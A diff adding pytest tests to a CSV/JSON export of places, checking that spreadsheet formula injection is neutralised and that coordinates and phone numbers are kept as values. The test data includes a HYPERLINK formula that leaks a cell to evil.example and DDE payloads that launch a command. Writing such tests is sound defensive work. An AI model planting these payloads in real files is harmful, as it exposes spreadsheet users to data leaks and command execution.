@@ -203,6 +203,35 @@ def test_awkward_names_round_trip(name: str) -> None:
     assert len(parse_csv(text)) == 1
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("https://evil.example/?"&A1,"Réserver")',
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ],
+)
+def test_text_that_a_spreadsheet_would_run_is_inert(text: str) -> None:
+    place = make_place(name=text, address=text, town=text, description=text, opening_hours_osm=text)
+    [cells] = parse_csv(to_csv([place]))
+    for field in ("nom", "adresse", "commune", "presentation_resume", "horaires"):
+        assert cells[field] == "'" + text.strip()
+    # The JSON form is not opened by spreadsheets: it keeps the text as it is.
+    [document] = to_json([place])
+    assert document["nom"] == text.strip()
+
+
+def test_numbers_and_phone_numbers_are_not_made_text() -> None:
+    place = make_place(latitude=48.7325, longitude=-3.4566, phone="02 96 46 00 00")
+    [cells] = parse_csv(to_csv([place]))
+    assert cells["longitude"] == "-3.4566"
+    assert cells["telephone"] == "+33296460000"
+    assert re.fullmatch(SCHEMA_PATTERNS["telephone"], cells["telephone"])
+
+
 def test_csv_is_rfc_4180_and_utf8() -> None:
     text = to_csv([make_place(name="Café, « Écoles »")])
     assert text.endswith("\r\n")
